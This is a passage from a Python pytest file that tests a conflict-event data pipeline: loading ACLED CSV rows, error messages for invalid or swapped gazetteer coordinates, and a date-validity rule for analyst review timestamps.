    path = tmp_path / "acled.csv"
    path.write_text("\n".join(",".join(r) for r in [cols, *rows]) + "\n", encoding="utf-8")
    events, errors = load_acled(path, load_gazetteer(ROOT / "geo" / "gazetteer.csv"))
    assert {e["event_id"]: e["source_url"] for e in events} == {"acled-SYR1": "https://a.test/x", "acled-SYR3": ""}
    assert [e.line for e in errors] == [3] and "source_url" in errors[0].reason


@pytest.mark.parametrize(("lat", "lon", "says"), [("nan", "41.2", "no finite number"), ("inf", "41.2", "no finite number"),
                                                  ("9" * 5000, "41.2", "no finite number"),
                                                  ("41.2", "37.05", "swapped"), ("-37.05", "-41.2", "check the source"),
                                                  ("0", "0", "check the source")])
def test_gazetteer_coordinate_messages_say_what_is_wrong(tmp_path, lat, lon, says):
    """nan was reported as 'outside the project's box; are lat and lon swapped?', as was any
    point outside the box, swapped or not."""
    from pipeline.gazetteer import load_gazetteer

    text = (ROOT / "geo" / "gazetteer.csv").read_text(encoding="utf-8").rstrip("\n")
    header = text.split("\n", 1)[0].split(",")
    values = dict.fromkeys(header, "")
    values.update(id="t_bad", kind="village", name_en="Bad", parent="qamishli", lat=lat, lon=lon, geo_precision="1",
                  trust="normal", source="test", licence="n/a")
    (tmp_path / "gazetteer.csv").write_text(text + "\n" + ",".join(values[c] for c in header) + "\n", encoding="utf-8")
    errors = load_gazetteer(tmp_path / "gazetteer.csv").errors
    assert len(errors) == 1 and says in errors[0].reason and len(errors[0].reason) < 300


@pytest.mark.parametrize(("stamp", "ok"), [("2099-01-01T00:00:00+00:00", False), ("1921-04-25T10:00", False),
                                           ("2021-04-25T10:00:00+00:00", True)])
def test_review_stamp_follows_the_date_rule(stamp, ok):
    """A decision 'made' in 2099 was shown as made then; the date rule holds for reviewed_at too."""
    from pipeline.actors import default_actors
    from pipeline.gazetteer import load_geo_dir
    from pipeline.reviews import check_row

    row = {"event_id": f"{SEED.stem}-e1", "decision": "confirm", "changes": "", "merged_into": "", "reason": "",
           "reviewed_by": "analyst", "reviewed_at": stamp}
    review, problems = check_row(row, load_geo_dir(ROOT / "geo"), default_actors())
    assert (review is not None) == ok and (not problems) == ok
    if not ok:
        assert problems[0].startswith("reviewed_at ") and "(a typo in the year?)" in problems[0]
